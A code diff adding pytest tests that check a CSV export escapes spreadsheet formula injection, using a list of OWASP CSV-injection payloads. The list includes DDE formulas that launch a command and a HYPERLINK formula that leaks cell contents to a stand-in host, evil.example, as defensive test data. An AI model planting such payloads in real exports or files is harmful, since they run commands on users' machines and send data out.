@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 
 from tests import factories as f
@@ -9,6 +11,7 @@ from tests.conftest import World, csrf_token, login, make_app
 from tracker.extensions import db
 from tracker.reports import services as report_services
 from tracker.reports.models import ReportKind
+from tracker.usecases.listing import neutralise
 from tracker.usecases.models import Stage
 from tracker.usecases.services import add_document
 
@@ -124,3 +127,57 @@ def test_error_pages_and_redirects_are_never_stored_by_a_cache(client, world: Wo
     login(client, world.bank_user)
     assert client.get("/admin/users/").headers["Cache-Control"] == "no-store"
     assert client.get("/no-such-page").headers["Cache-Control"] == "no-store"
+
+
+# OWASP "CSV Injection" payloads, and the same payloads where a spreadsheet splitting on a
+# separator would start a new cell in the middle of the field.
+OWASP_CSV_PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2, \"Error: click to view\")",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+9+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "=10+20+cmd|' /C calc'!A0",
+    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    "\t=1+1",
+    "\r=1+1",
+    ";=cmd|' /C calc'!A0;",
+    "Fraud model,=1+1",
+    "Fraud model; @SUM(A1:A9)",
+    "Fraud model\t=cmd|' /C calc'!A0",
+    "Fraud model|+1",
+    "Fraud model\n-1+cmd|' /C calc'!A0",
+    "Fraud model\r\n=1",
+    "a,\t=1",
+    "a;\u00a0=1",
+]
+SEPARATORS_SPLIT = re.compile(r"[,;\t|\r\n]")
+
+
+@pytest.mark.parametrize("payload", OWASP_CSV_PAYLOADS)
+def test_csv_cells_never_start_a_formula_after_any_separator(payload: str):
+    cell = neutralise(payload)
+    for piece in [cell, *SEPARATORS_SPLIT.split(cell)]:
+        assert not piece.lstrip(" \u00a0").startswith(("=", "+", "-", "@")), (payload, piece)
+    # Only quotes were added: the text itself is kept.
+    assert cell.replace("'", "") == payload.replace("'", "")
+
+
+@pytest.mark.parametrize("text", ["Fraud detection", "風險管理", "a=1", "Risk - scoring", "x'y"])
+def test_csv_cells_without_a_formula_are_unchanged(text: str):
+    assert neutralise(text) == text
+
+
+def test_csv_export_neutralises_a_title_with_a_separated_formula(client, world: World):
+    f.create_use_case(
+        world.cohort,
+        world.bank,
+        world.category,
+        stage=Stage.SUBMITTED,
+        title=";=cmd|' /C calc'!A0;",
+    )
+    db.session.commit()
+    login(client, world.reviewer)
+    raw = client.get("/use-cases/export.csv").get_data(as_text=True)
+    assert ";'=cmd|' /C calc'!A0;" in raw
+    assert ";=cmd" not in raw
